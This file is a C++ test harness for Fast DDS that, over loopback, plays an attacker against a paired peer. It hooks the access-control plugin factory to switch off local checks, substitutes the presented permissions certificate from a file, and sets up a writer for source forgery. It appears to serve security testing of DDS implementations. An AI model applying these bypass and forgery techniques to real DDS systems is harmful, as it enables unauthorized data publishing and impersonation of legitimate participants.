/* One of two processes of Fast DDS that meet on the loopback interface: as cyclonedds_pair.c, same arguments (but for
 * the library: any text but "" means that an attacker runs it) and same answers. An attacker runs Fast DDS's access
 * control plugin with its own checks switched off, so that any local endpoint is created, and presents to its peers the
 * permissions in the file that PRESENTED_PERMISSIONS names, where that is set. The factory of the plugins is exported
 * and not declared; the one here comes before it. PASSED_FOR is as there.
 */
#include <dlfcn.h>
#include <fastdds/dds/domain/DomainParticipant.hpp>
#include <fastdds/dds/domain/DomainParticipantFactory.hpp>
#include <fastdds/dds/publisher/DataWriter.hpp>
#include <fastdds/dds/publisher/DataWriterListener.hpp>
#include <fastdds/dds/publisher/Publisher.hpp>
#include <fastdds/dds/subscriber/DataReader.hpp>
#include <fastdds/dds/subscriber/DataReaderListener.hpp>
#include <fastdds/dds/subscriber/SampleInfo.hpp>
#include <fastdds/dds/subscriber/Subscriber.hpp>
#include <fastdds/dds/topic/TopicDataType.hpp>
#include <fastdds/dds/topic/TypeSupport.hpp>
#include <fastdds/rtps/security/accesscontrol/AccessControl.h>
#include <fastdds/rtps/security/authentication/Authentication.h>
#include <fastdds/rtps/transport/UDPv4TransportDescriptor.h>
#include <fastrtps/utils/IPLocator.h>
#include <poll.h>
#include <unistd.h>

#include <cstring>
#include <fstream>
#include <iostream>
#include <map>
#include <memory>
#include <mutex>
#include <set>
#include <sstream>
#include <vector>

#include "fastdds_secure.hpp"
#include "forged_source.h"

using namespace eprosima::fastdds::dds;
using namespace eprosima::fastrtps::rtps;
using namespace eprosima::fastrtps::rtps::security;

static bool compromised;
static FILE *answers; /* the vendor writes to the standard output too, which becomes the error output */

class Compromised : public AccessControl
{
public:
    explicit Compromised(AccessControl *plugin) : plugin_(plugin) {}
    PermissionsHandle *validate_local_permissions(Authentication &authentication, const IdentityHandle &identity,
                                                  const uint32_t domain, const RTPSParticipantAttributes &attributes,
                                                  SecurityException &why) override
    {
        return plugin_->validate_local_permissions(authentication, identity, domain, attributes, why);
    }
    bool get_permissions_token(PermissionsToken **token, const PermissionsHandle &handle,
                               SecurityException &why) override
    {
        return plugin_->get_permissions_token(token, handle, why);
    }
    bool return_permissions_token(PermissionsToken *token, SecurityException &why) override
    {
        return plugin_->return_permissions_token(token, why);
    }
    bool get_permissions_credential_token(PermissionsCredentialToken **token, const PermissionsHandle &handle,
                                          SecurityException &why) override
    {
        if (!plugin_->get_permissions_credential_token(token, handle, why))
            return false;
        if (const char *path = getenv("PRESENTED_PERMISSIONS")) {
            std::ostringstream document;
            document << std::ifstream(path, std::ios::binary).rdbuf();
            for (auto &property : (*token)->properties())
                if (property.name() == "dds.perm.cert")
                    property.value(document.str());
        }
        return true;
    }
    bool return_permissions_credential_token(PermissionsCredentialToken *token, SecurityException &why) override
    {
        return plugin_->return_permissions_credential_token(token, why);
    }
    PermissionsHandle *get_permissions_handle(SecurityException &why) override
    {
        return plugin_->get_permissions_handle(why);
    }
    bool return_permissions_handle(PermissionsHandle *handle, SecurityException &why) override
    {
        return plugin_->return_permissions_handle(handle, why);
    }
    PermissionsHandle *validate_remote_permissions(Authentication &authentication, const IdentityHandle &identity,
                                                   const PermissionsHandle &permissions, const IdentityHandle &remote,
                                                   const PermissionsToken &token,
                                                   const PermissionsCredentialToken &credential,
                                                   SecurityException &why) override
    {
        return plugin_->validate_remote_permissions(authentication, identity, permissions, remote, token, credential,
                                                    why);
    }
    bool check_create_participant(const PermissionsHandle &, const uint32_t, const RTPSParticipantAttributes &,
                                  SecurityException &) override
    {
        return true;
    }
    bool check_remote_participant(const PermissionsHandle &handle, const uint32_t domain,
                                  const ParticipantProxyData &data, SecurityException &why) override
    {
        return plugin_->check_remote_participant(handle, domain, data, why);
    }
    bool check_create_datawriter(const PermissionsHandle &, const uint32_t, const std::string &,
                                 const std::vector<std::string> &, SecurityException &) override
    {
        return true;
    }
    bool check_create_datareader(const PermissionsHandle &, const uint32_t, const std::string &,
                                 const std::vector<std::string> &, SecurityException &) override
    {
        return true;
    }
    bool check_remote_datawriter(const PermissionsHandle &handle, const uint32_t domain, const WriterProxyData &data,
                                 SecurityException &why) override
    {
        return plugin_->check_remote_datawriter(handle, domain, data, why);
    }
    bool check_remote_datareader(const PermissionsHandle &handle, const uint32_t domain, const ReaderProxyData &data,
                                 bool &relay_only, SecurityException &why) override
    {
        return plugin_->check_remote_datareader(handle, domain, data, relay_only, why);
    }
    bool get_participant_sec_attributes(const PermissionsHandle &handle, ParticipantSecurityAttributes &attributes,
                                        SecurityException &why) override
    {
        return plugin_->get_participant_sec_attributes(handle, attributes, why);
    }
    bool get_datawriter_sec_attributes(const PermissionsHandle &handle, const std::string &topic,
                                       const std::vector<std::string> &partitions,
                                       EndpointSecurityAttributes &attributes, SecurityException &why) override
    {
        return plugin_->get_datawriter_sec_attributes(handle, topic, partitions, attributes, why);
    }
    bool get_datareader_sec_attributes(const PermissionsHandle &handle, const std::string &topic,
                                       const std::vector<std::string> &partitions,
                                       EndpointSecurityAttributes &attributes, SecurityException &why) override
    {
        return plugin_->get_datareader_sec_attributes(handle, topic, partitions, attributes, why);
    }

private:
    std::unique_ptr<AccessControl> plugin_;
};

namespace eprosima {
namespace fastrtps {
namespace rtps {
namespace security {
class SecurityPluginFactory
{
public:
    AccessControl *create_access_control_plugin(const PropertyPolicy &properties);
};

AccessControl *SecurityPluginFactory::create_access_control_plugin(const PropertyPolicy &properties)
{
    static const char name[] = "_ZN8eprosima8fastrtps4rtps8security21SecurityPluginFactory28create_access_control_plugin"
                               "ERKNS1_14PropertyPolicyE";
    AccessControl *(*next)(SecurityPluginFactory *, const PropertyPolicy &) = nullptr;
    *reinterpret_cast<void **>(&next) = dlsym(RTLD_NEXT, name);
    if (next == nullptr)
        abort();
    AccessControl *plugin = next(this, properties);
    return compromised && plugin != nullptr ? new Compromised(plugin) : plugin;
}
} // namespace security
} // namespace rtps
} // namespace fastrtps
} // namespace eprosima

class Sample : public TopicDataType
{
public:
    Sample()
    {
        setName("Sample");
        m_typeSize = 8;
        m_isGetKeyDefined = false;
    }
    bool serialize(void *data, SerializedPayload_t *payload) override
    {
        static const octet header[4] = {0, 1, 0, 0};
        memcpy(payload->data, header, 4);
        memcpy(payload->data + 4, data, 4);
        payload->encapsulation = CDR_LE;
        payload->length = 8;
        return true;
    }
    bool deserialize(SerializedPayload_t *payload, void *data) override
    {
        if (payload->length < 8)
            return false;
        memcpy(data, payload->data + 4, 4);
        return true;
    }
    std::function<uint32_t()> getSerializedSizeProvider(void *) override
    {
        return [] { return 8u; };
    }
    void *createData() override { return new uint32_t; }
    void deleteData(void *data) override { delete static_cast<uint32_t *>(data); }
    bool getKey(void *, InstanceHandle_t *, bool) override { return false; }
};

/* A writer or a reader, and whom of the other process it has matched with: those of its own do not count. */
struct Endpoint : public DataWriterListener, public DataReaderListener
{
    DataWriter *writer = nullptr;
    DataReader *reader = nullptr;
    GuidPrefix_t own;
    std::mutex guard;
    std::set<InstanceHandle_t> matched;
    std::set<uint32_t> heard;

    void note(const InstanceHandle_t &handle, int change)
    {
        const std::lock_guard<std::mutex> held(guard);
        if (iHandle2GUID(handle).guidPrefix == own)
            return;
        if (change > 0)
            matched.insert(handle);
        else
            matched.erase(handle);
    }
    void on_publication_matched(DataWriter *, const PublicationMatchedStatus &status) override
    {
        note(status.last_subscription_handle, status.current_count_change);
    }
    void on_subscription_matched(DataReader *, const SubscriptionMatchedStatus &status) override
    {
        note(status.last_publication_handle, status.current_count_change);
    }
};

/* Of more than one participant of a process, `place` tells apart. The ports are those of cyclonedds_pair.c, which may
 * be the other process: of participant 0 or 1, 10 and 11 above the first one, or 12 and 13 (RTPS 2.5, 9.6.2.3). */
static DomainParticipant *create_participant(uint32_t number, uint32_t first_port, uint32_t domain,
                                             const std::string &directory, uint32_t place = 0)
{
    DomainParticipantQos qos;
    if (!directory.empty())
        secure(qos, directory);
    const auto transport = std::make_shared<eprosima::fastdds::rtps::UDPv4TransportDescriptor>();
    transport->interfaceWhiteList.push_back("127.0.0.1");
    qos.transport().use_builtin_transports = false;
    qos.transport().user_transports.push_back(transport);
    Locator_t loopback;
    IPLocator::setIPv4(loopback, "127.0.0.1");
    auto &protocol = qos.wire_protocol();
    loopback.port = first_port + 10 + 2 * number + place;
    protocol.builtin.metatrafficUnicastLocatorList.push_back(loopback);
    loopback.port = first_port + 10 + 2 * (1 - number);
    protocol.builtin.initialPeersList.push_back(loopback);
    loopback.port = first_port + 11 + 2 * number + place;
    protocol.default_unicast_locator_list.push_back(loopback);
    protocol.builtin.discovery_config.initial_announcements.count = 100;
    protocol.builtin.discovery_config.initial_announcements.period = {0, 100000000u};
    protocol.builtin.discovery_config.ignoreParticipantFlags = NO_FILTER;
    return DomainParticipantFactory::get_instance()->create_participant(domain, qos);
}

static void create_endpoint(DomainParticipant &participant, Endpoint &endpoint, bool publishes, Topic *topic,
                            const PartitionQosPolicy &partitions)
{
    endpoint.own = participant.guid().guidPrefix;
    if (topic == nullptr)
        return;
    if (publishes) {
        PublisherQos group;
        group.partition() = partitions;
        DataWriterQos qos;
        qos.reliability().kind = BEST_EFFORT_RELIABILITY_QOS;
        qos.data_sharing().off();
        if (Publisher *publisher = participant.create_publisher(group))
            endpoint.writer = publisher->create_datawriter(topic, qos, &endpoint);
    } else {
        SubscriberQos group;
        group.partition() = partitions;
        DataReaderQos qos;
        qos.reliability().kind = BEST_EFFORT_RELIABILITY_QOS;
        qos.data_sharing().off();
        qos.history().depth = 4;
        if (Subscriber *subscriber = participant.create_subscriber(group))
            endpoint.reader = subscriber->create_datareader(topic, qos, &endpoint);
    }
}

static void create_endpoints(DomainParticipant &participant, std::vector<std::unique_ptr<Endpoint>> &endpoints,
                             char **arguments)
{
    std::map<std::string, Topic *> topics; /* a second one of the same name is refused */
    while (*arguments != nullptr) {
        const bool publishes = *arguments++ == std::string("P");
        const std::string name = *arguments++;
        PartitionQosPolicy partitions;
        for (int listed = std::stoi(*arguments++); listed > 0; listed--)
            partitions.push_back(*arguments++);
        if (topics.count(name) == 0)
            topics[name] = participant.create_topic(name, "Sample", TOPIC_QOS_DEFAULT);
        endpoints.emplace_back(new Endpoint);
        Endpoint &endpoint = *endpoints.back();
        create_endpoint(participant, endpoint, publishes, topics[name], partitions);
        fputs(endpoint.writer == nullptr && endpoint.reader == nullptr ? "R\n" : "A\n", answers);
    }
}

static Endpoint owner; /* passed for by the first endpoint; without a writer: none */

static void write_as_owner()
{
    static int written;
    uint32_t sample = 1999;
    PublicationMatchedStatus status;
    if (owner.writer == nullptr || forging)
        return;
    owner.writer->get_publication_matched_status(status);
    if (status.current_count > 0) {
        owner.writer->write(&sample);
        forging = ++written == 5;
    }
}

static void create_owner(DomainParticipant &participant, const DataWriter &forger)
{
    TypeSupport(new Sample).register_type(&participant);
    Topic *topic = participant.create_topic("owned", "Sample", TOPIC_QOS_DEFAULT);
    create_endpoint(participant, owner, true, topic, PartitionQosPolicy());
    for (const auto &each : {std::make_pair(owners_guid, owner.writer->guid()), {forgers_guid, forger.guid()}}) {
        memcpy(each.first, each.second.guidPrefix.value, PREFIX);
        memcpy(each.first + PREFIX, each.second.entityId.value, 4);
    }
}

static void write_and_take(uint32_t number, std::vector<std::unique_ptr<Endpoint>> &endpoints)
{
    write_as_owner();
    for (size_t i = 0; i < endpoints.size(); i++) {
        Endpoint &endpoint = *endpoints[i];
        uint32_t sample = 1000 * number + static_cast<uint32_t>(i);
        if (endpoint.writer != nullptr) {
            PublicationMatchedStatus status;
            endpoint.writer->get_publication_matched_status(status);
            if (status.current_count > 0)
                endpoint.writer->write(&sample);
        }
        SampleInfo info;
        while (endpoint.reader != nullptr &&
               endpoint.reader->take_next_sample(&sample, &info) == eprosima::fastrtps::types::ReturnCode_t::RETCODE_OK)
            if (info.valid_data)
                endpoint.heard.insert(sample);
    }
}

static void say_all(std::vector<std::unique_ptr<Endpoint>> &endpoints)
{
    for (const auto &endpoint : endpoints) {
        const std::lock_guard<std::mutex> held(endpoint->guard);
        fprintf(answers, "%zu", endpoint->matched.size());
        for (const uint32_t sender : endpoint->heard)
            fprintf(answers, " %u", sender);
        fputc('\n', answers);
    }
    fflush(answers);
}

int main(int count, char **argument)
{
    if (count < 6)
        return 2;
    answers = fdopen(dup(STDOUT_FILENO), "w");
    if (answers == nullptr || dup2(STDERR_FILENO, STDOUT_FILENO) < 0)
        return 1;
    alarm(30);
    const uint32_t number = static_cast<uint32_t>(atoi(argument[1]));
    compromised = argument[5][0] != '\0';
    DomainParticipant *participant = create_participant(number, static_cast<uint32_t>(atoi(argument[2])),
                                                        static_cast<uint32_t>(atoi(argument[3])), argument[4]);
    std::vector<std::unique_ptr<Endpoint>> endpoints;
    fputs(participant == nullptr ? "R\n" : "A\n", answers);
    if (participant != nullptr) {
        TypeSupport(new Sample).register_type(participant);
        create_endpoints(*participant, endpoints, argument + 6);
    }
    if (const char *directory = getenv("PASSED_FOR"))
        create_owner(*create_participant(number, static_cast<uint32_t>(atoi(argument[2])),
                                         static_cast<uint32_t>(atoi(argument[3])), directory, 4),
                     *endpoints.at(0)->writer);
    fflush(answers);
    pollfd input = {STDIN_FILENO, POLLIN, 0};
    for (;;) {
        char line[16];
        if (poll(&input, 1, 20) > 0) {
            if (read(STDIN_FILENO, line, sizeof line) <= 0)
                _exit(0);
            say_all(endpoints);
        }
        write_and_take(number, endpoints);
    }
}
